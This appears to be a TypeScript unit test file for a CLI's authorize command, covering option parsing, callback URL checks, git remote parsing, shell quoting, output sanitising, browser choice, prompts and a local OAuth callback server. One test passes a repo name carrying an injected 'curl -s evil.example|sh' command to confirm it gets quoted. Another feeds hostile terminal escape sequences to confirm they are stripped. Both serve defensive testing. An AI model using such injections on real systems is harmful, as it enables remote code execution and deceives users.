// Unit tests of the authorize command's helpers: arguments, git remotes, browser choice, prompts, callback server.
import { createServer } from "node:net";
import { PassThrough } from "node:stream";
import { afterEach, describe, expect, it, vi } from "vitest";
import { ReleaseTweetError } from "../../src/core/errors.js";
import { ghSecretSetCommand } from "../../src/cli/authorize.js";
import { readAuthorizeOptions } from "../../src/cli/authorize-options.js";
import { browserCommand } from "../../src/cli/browser.js";
import { parseCallbackUrl, startCallbackServer, type CallbackServer } from "../../src/cli/callback-server.js";
import { parseGitHubRemote } from "../../src/cli/git-remote.js";
import { standardIo } from "../../src/cli/io.js";
import { createPrompter } from "../../src/cli/prompt.js";

function thrown(fn: () => unknown): ReleaseTweetError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(ReleaseTweetError);
    return error as ReleaseTweetError;
  }
  throw new Error("expected a throw");
}

describe("readAuthorizeOptions", () => {
  it("reads flags and environment", () => {
    const options = readAuthorizeOptions(
      ["--repo", "octo/app", "--env", "prod", "--callback", "http://127.0.0.1:8976/cb", "--timeout", "20"],
      { GH_TOKEN: "gho_x", TWITTER_API_KEY: "k", TWITTER_API_BASE_URL: "http://127.0.0.1:9/", GITHUB_API_URL: "https://ghe.example/api/v3" },
    );
    expect(options).toMatchObject({
      repo: "octo/app",
      environment: "prod",
      timeoutMs: 20_000,
      xBaseUrl: "http://127.0.0.1:9",
      githubApiUrl: "https://ghe.example/api/v3",
      github: { token: "gho_x", name: "GH_TOKEN" },
      consumer: { apiKey: "k", apiSecret: undefined },
    });
    expect(options.callback?.href).toBe("http://127.0.0.1:8976/cb");
  });

  it("prefers GITHUB_TOKEN over GH_TOKEN and treats blank values as unset", () => {
    expect(readAuthorizeOptions([], { GITHUB_TOKEN: "a", GH_TOKEN: "b" }).github?.name).toBe("GITHUB_TOKEN");
    expect(readAuthorizeOptions([], { GITHUB_TOKEN: "  ", GH_TOKEN: "" }).github).toBeUndefined();
    expect(readAuthorizeOptions([], {}).xBaseUrl).toBe("https://api.x.com");
  });

  it.each([
    [["--repo", "not-a-repo"], "EREPO"],
    [["--timeout", "5"], "EUSAGE"],
    [["--callback", "http://127.0.0.1:1/x", "--timeout", "0"], "EUSAGE"],
    [["--callback", "http://127.0.0.1:1/x", "--timeout", "1.5"], "EUSAGE"],
    [["--bogus"], "EUSAGE"],
    [["stray"], "EUSAGE"],
    [["--callback", "https://127.0.0.1:1/x"], "ECALLBACKURL"],
  ])("rejects %j with %s", (argv, code) => {
    expect(thrown(() => readAuthorizeOptions(argv, {})).code).toBe(code);
  });

  it("rejects an API URL with credentials without repeating it", () => {
    const error = thrown(() => readAuthorizeOptions([], { GITHUB_API_URL: "https://user:ghp_secret@ghe.example" }));
    expect(error.code).toBe("EURL");
    expect(error.summary).not.toContain("ghp_secret");
  });

  it.each(["http://ghe.example/api/v3", "http://10.0.0.5/api/v3", "ftp://ghe.example", "https://ghe.example/api/v3?x=1"])(
    "refuses GITHUB_API_URL %s: https only, plain http only to loopback",
    (url) => {
      const error = thrown(() => readAuthorizeOptions([], { GITHUB_API_URL: url }));
      expect(error.code).toBe("EURL");
      expect(error.message).toMatch(/^GITHUB_API_URL must /);
    },
  );

  it.each([
    ["http://127.0.0.1:8080/", "http://127.0.0.1:8080"],
    ["http://localhost:3000/api/v3", "http://localhost:3000/api/v3"],
    ["https://ghe.example/api/v3/", "https://ghe.example/api/v3"],
  ])("accepts GITHUB_API_URL %s", (url, expected) => {
    expect(readAuthorizeOptions([], { GITHUB_API_URL: url }).githubApiUrl).toBe(expected);
  });

  it("answers --help even with a broken environment", () => {
    expect(readAuthorizeOptions(["--help"], { TWITTER_API_BASE_URL: "nope" }).help).toBe(true);
  });
});

describe("parseCallbackUrl", () => {
  it.each(["http://127.0.0.1:8976/callback", "http://[::1]:8976/cb/", "http://127.0.0.1:1/"])("accepts %s", (url) => {
    expect(parseCallbackUrl(url).href).toBe(url);
  });
  it.each([
    ["https://127.0.0.1:8976/cb", /http:\/\//],
    ["http://localhost:8976/cb", /127\.0\.0\.1.*localhost/],
    ["http://example.com:8976/cb", /127\.0\.0\.1/],
    ["http://10.0.0.1:8976/cb", /127\.0\.0\.1/],
    ["http://127.0.0.1/cb", /explicit port/],
    ["http://127.0.0.1:1/cb?x=1", /query/],
    ["not a url", /not a URL/],
  ])("rejects %s", (url, message) => {
    const error = thrown(() => parseCallbackUrl(url));
    expect(error.code).toBe("ECALLBACKURL");
    expect(error.message).toMatch(message);
  });
});

describe("parseGitHubRemote", () => {
  it.each([
    ["https://github.com/octo/app.git", "github.com", "octo/app"],
    ["https://github.com/octo/app", "github.com", "octo/app"],
    ["https://github.com/octo/app/", "github.com", "octo/app"],
    ["https://x-access-token:ghp_abc@github.com/octo/app.git\n", "github.com", "octo/app"],
    ["git@github.com:octo/app.git", "github.com", "octo/app"],
    ["github.com:octo/app", "github.com", "octo/app"],
    ["ssh://git@github.com/octo/app.git", "github.com", "octo/app"],
    ["ssh://git@ghe.corp.example:2222/team/tool.git", "ghe.corp.example", "team/tool"],
    ["git@GHE.corp.example:team/tool.js.git", "ghe.corp.example", "team/tool.js"],
  ])("%s", (remote, host, repo) => {
    expect(parseGitHubRemote(remote)).toEqual({ host, repo });
  });
  it.each(["", "/local/path/repo", "https://github.com/octo", "https://github.com/a/b/c", "file:///tmp/x"])("ignores %j", (remote) => {
    expect(parseGitHubRemote(remote)).toBeUndefined();
  });
});

describe("ghSecretSetCommand", () => {
  it("quotes the repository and environment for the shell, and leaves plain ones as they are", () => {
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "octo/app.js", environment: "prod" })).toBe(
      "gh secret set TWITTER_API_KEY --repo octo/app.js --env prod",
    );
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: undefined })).toBe("gh secret set TWITTER_API_KEY --repo OWNER/NAME");
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "x/b; curl -s evil.example|sh", environment: "it's" })).toBe(
      "gh secret set TWITTER_API_KEY --repo 'x/b; curl -s evil.example|sh' --env 'it'\\''s'",
    );
  });
});

describe("standardIo", () => {
  afterEach(() => {
    vi.restoreAllMocks();
  });

  function written(stream: NodeJS.WriteStream, write: (io: ReturnType<typeof standardIo>) => void): string {
    let text = "";
    vi.spyOn(stream, "write").mockImplementation((chunk: string | Uint8Array) => ((text += String(chunk)), true));
    write(standardIo());
    vi.restoreAllMocks();
    return text;
  }

  it("removes terminal control sequences (ESC, OSC 8 links, BEL, CR, C1) from stdout and stderr", () => {
    const hostile = "Authorized as @\u001b]8;;https://evil/\u0007x\u001b]8;;\u0007 \u001b[2J\rfake\u009b31m";
    for (const stream of [process.stdout, process.stderr]) {
      const text = written(stream, (io) => (stream === process.stdout ? io.out(hostile) : io.err(hostile)));
      expect(text).toBe("Authorized as @]8;;https://evil/x]8;; [2Jfake31m\n");
      // eslint-disable-next-line no-control-regex -- matching control characters is the point
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
  });

  it("leaves ordinary text alone: emoji, CJK, accents, tabs and line breaks", () => {
    const normal = "Release 🎉 v1.2 — 新しいリリース, café\n\tnext line 👩‍💻";
    expect(written(process.stdout, (io) => io.out(normal))).toBe(`${normal}\n`);
    expect(written(process.stderr, (io) => io.err(normal))).toBe(`${normal}\n`);
  });
});

describe("browserCommand", () => {
  const url = "https://api.x.com/oauth/authorize?oauth_token=abc&x=1";
  it("uses BROWSER with the URL appended, or substituted for %s", () => {
    expect(browserCommand(url, { BROWSER: "firefox --new-tab" }, "linux")).toEqual({ command: "firefox", args: ["--new-tab", url] });
    expect(browserCommand(url, { BROWSER: "w3m %s:lynx" }, "linux")).toEqual({ command: "w3m", args: [url] });
  });
  it("falls back to the platform opener, the URL always one argument", () => {
    expect(browserCommand(url, {}, "linux")).toEqual({ command: "xdg-open", args: [url] });
    expect(browserCommand(url, {}, "darwin")).toEqual({ command: "open", args: [url] });
    expect(browserCommand(url, {}, "win32")).toEqual({ command: "rundll32", args: ["url.dll,FileProtocolHandler", url] });
  });
});

describe("createPrompter", () => {
  it("takes successive lines from one piped chunk, CRLF included", async () => {
    const stdin = new PassThrough();
    const errors: string[] = [];
    const prompter = createPrompter({ stdin, err: (t) => errors.push(t) });
    stdin.end("key\r\nsecret\n1234567");
    expect(await prompter.ask("Key:")).toBe("key");
    expect(await prompter.ask("Secret:", { hidden: true })).toBe("secret");
    expect(await prompter.ask("PIN:")).toBe("1234567");
    expect(errors).toEqual(["Key:", "Secret:", "PIN:"]);
    prompter.close();
  });

  it("waits for input that arrives later, and fails clearly when input ends", async () => {
    const stdin = new PassThrough();
    const prompter = createPrompter({ stdin, err: () => undefined });
    const answer = prompter.ask("PIN:");
    setTimeout(() => stdin.write("98"), 10);
    setTimeout(() => stdin.write("76\n"), 20);
    expect(await answer).toBe("9876");
    stdin.end();
    await expect(prompter.ask("more:")).rejects.toMatchObject({ code: "ENOINPUT" });
    prompter.close();
  });

  it("reads a hidden answer on a terminal in raw mode, with backspace, and restores the mode", async () => {
    const modes: boolean[] = [];
    const stdin = Object.assign(new PassThrough(), {
      isTTY: true,
      setRawMode: (raw: boolean) => modes.push(raw),
    });
    const prompter = createPrompter({ stdin, err: () => undefined });
    const answer = prompter.ask("Secret:", { hidden: true });
    stdin.write("sx\u007fecret\r");
    expect(await answer).toBe("secret");
    expect(modes).toEqual([true, false]);
    const cancelled = prompter.ask("Secret:", { hidden: true });
    stdin.write("ab\u0003");
    await expect(cancelled).rejects.toMatchObject({ code: "ECANCELLED" });
    expect(modes).toEqual([true, false, true, false]);
    prompter.close();
  });
});

describe("callback server", () => {
  let server: CallbackServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });

  async function freePort(): Promise<number> {
    return new Promise((resolve) => {
      const probe = createServer();
      probe.listen(0, "127.0.0.1", () => {
        const address = probe.address();
        probe.close(() => resolve(typeof address === "object" && address ? address.port : 0));
      });
    });
  }

  it("ignores other paths and foreign tokens, accepts the pending token's redirect", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}`;
    server = await startCallbackServer(new URL(`${base}/callback`));
    const verifier = server.waitForVerifier("req-token", 5_000);
    expect((await fetch(`${base}/other?oauth_token=req-token&oauth_verifier=1`)).status).toBe(404);
    expect((await fetch(`${base}/callback?oauth_token=someone-else&oauth_verifier=1`)).status).toBe(400);
    expect((await fetch(`${base}/callback?oauth_token=req-token`)).status).toBe(400);
    const ok = await fetch(`${base}/callback?oauth_token=req-token&oauth_verifier=v123`);
    expect(ok.status).toBe(200);
    expect(await ok.text()).toContain("close this tab");
    expect(await verifier).toBe("v123");
  });

  it("reports denial (the user clicked Cancel) for the pending token", async () => {
    const port = await freePort();
    server = await startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`));
    // Settled into a value right away: the rejection arrives while the test is still fetching.
    const outcome = server.waitForVerifier("req-token", 5_000).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect((await fetch(`http://127.0.0.1:${port}/cb?denied=other`)).status).toBe(400);
    expect((await fetch(`http://127.0.0.1:${port}/cb?denied=req-token`)).status).toBe(200);
    expect(await outcome).toMatchObject({ code: "EXDENIED" });
  });

  it("gives up after the timeout with a clear error", async () => {
    const port = await freePort();
    server = await startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`));
    await expect(server.waitForVerifier("req-token", 50)).rejects.toMatchObject({
      code: "ECALLBACKTIMEOUT",
      message: expect.stringContaining(`http://127.0.0.1:${port}/cb`) as unknown,
    });
  });

  it("says when the port is taken", async () => {
    const port = await freePort();
    server = await startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`));
    await expect(startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`))).rejects.toMatchObject({
      code: "ECALLBACKPORT",
      message: expect.stringContaining("already in use") as unknown,
    });
  });
});
